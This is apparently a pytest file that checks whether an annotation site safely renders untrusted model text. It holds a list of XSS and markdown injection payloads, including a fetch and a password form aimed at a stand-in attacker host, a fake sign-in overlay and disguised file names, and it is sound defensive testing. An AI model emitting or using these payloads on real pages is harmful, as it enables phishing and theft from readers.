"""What a model may write to attack whoever reads it: each payload in a real browser, on the annotator's page."""

from __future__ import annotations

import pytest

from tests.app.site import comparison

ELSEWHERE = "http://attacker.invalid"
FENCE = "```"
RUN = "window.hacked=1"
IMAGE = f"<img src={ELSEWHERE}/a.png onerror={RUN}>"
PAYLOADS = {
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">Sign in again</div>',
    "form": f'<form action="{ELSEWHERE}"><input type=password name=p><button>Sign in</button></form>',
    "image": IMAGE,
    "script": f'<script>{RUN}; fetch("{ELSEWHERE}")</script>',
    "handler": f'<b onmouseover="{RUN}">b</b><details open ontoggle="{RUN}">d</details>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "iframe": f'<iframe src="{ELSEWHERE}"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": f'<object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}">',
    "meta and base": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"><base href="{ELSEWHERE}">',
    "style": f'<style>@import "{ELSEWHERE}"; body {{ display: none }}</style><link rel=stylesheet href={ELSEWHERE}>',
    "markdown image": f"![tracking]({ELSEWHERE}/b.png) ![][r]\n\n[r]: {ELSEWHERE}/r.png",
    "javascript link": f"[click](javascript:{RUN}) <javascript:{RUN}> [c](java&#115;cript:{RUN})",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "code in a link": f"[a](`b`c){IMAGE}`d)",
    "nested fences": f"````md\n{FENCE}html\n{IMAGE}\n{FENCE}\n````\n{IMAGE}",
    "formula around html": f"$$\n\n{FENCE}\n$$\n{IMAGE}\n{FENCE}\n\n${IMAGE}$",
    "katex link": rf"$\href{{javascript:{RUN}}}{{x}}$ $\url{{javascript:{RUN}}}$",
    "katex image": rf"$\includegraphics{{{ELSEWHERE}/g.png}}$ $\href{{{ELSEWHERE}}}{{x}}$",
    "katex style": r"$\htmlClass{untrusted}{y}$ $\htmlStyle{position:fixed}{z}$ $\rule{9999em}{9999em}$",
    "placeholder": "%%%LATEX_BLOCK_0%%% $x$ \ue000x\ue001",
    "direction": "safe \u202egnp.exe\u202c \u2066x\u2069 `\u202ecode`",
    "closes its box": "</div></span></div></main><h1>Outside</h1><textarea id=token>stolen</textarea>",
    "mermaid": f'{FENCE}mermaid\ngraph TD\nA["{IMAGE}"] --> B\nclick A "javascript:{RUN}"\n{FENCE}',
    "unclosed fence": f"{FENCE}html\n</code></pre>{IMAGE}",
}
# what a message may never become, and what may never be set on what it does become
FOUND = """() => [...document.querySelectorAll(".untrusted *")].filter((one) =>
    one.matches("a, img, form, input, textarea, button, iframe, object, embed, script, style, link, meta, base")
    || ["fixed", "sticky"].includes(getComputedStyle(one).position)
    || [...one.attributes].some((attribute) => attribute.name.startsWith("on"))).map((one) => one.outerHTML)"""
CONTAINED = """() => [...document.querySelectorAll(".untrusted")].every((box) =>
    getComputedStyle(box).contain.includes("paint") && getComputedStyle(box).contain.includes("layout"))"""
UNHARMED = "() => window.hacked === undefined && document.querySelectorAll('#token').length === 1"
SAID = "text after the payload"


@pytest.mark.parametrize("where", ["answer", "prompt"])
def test_no_payload_does_anything_but_be_read(make_site, open_page, where):
    """All payloads, one after the other; `open_page` fails it on foreign requests, dialogs and errors."""
    texts = [f"{payload}\n\n{SAID}" for payload in PAYLOADS.values()]
    items = [
        comparison(name, text, "harmless") if where == "answer" else comparison(text, "one", "another")
        for name, text in zip(PAYLOADS, texts, strict=True)
    ]
    site = make_site(items)
    page = open_page(site, site.person("mei"))
    page.wait_for_selector("#card-A .message")
    for _ in items:
        token = page.input_value("#token textarea")
        page.wait_for_timeout(100)  # the text is drawn a moment after the token is there
        shown = page.inner_text("#conversation" if where == "prompt" else "#answers")
        assert SAID in shown
        assert page.evaluate(FOUND) == [], shown
        assert page.evaluate(UNHARMED), shown
        assert page.evaluate(CONTAINED)
        page.keyboard.press("4")
        page.keyboard.press("Enter")
        page.wait_for_function(
            "token => document.querySelector('#token textarea').value !== token", arg=token
        )
    assert len(site.labels()) == len(items)


def test_payloads_stay_readable(make_site, open_page):
    names = ("form", "overlay", "data link", "direction")
    site = make_site([comparison("Which?", "\n\n".join(PAYLOADS[name] for name in names), "b")])
    page = open_page(site, site.person("mei"))
    page.wait_for_selector("#card-B .message")
    text = page.inner_text("#answers")
    for part in ("<form action=", "position:fixed;inset:0", "data:text/html;base64", "⟦U+202E⟧gnp.exe"):
        assert part in text
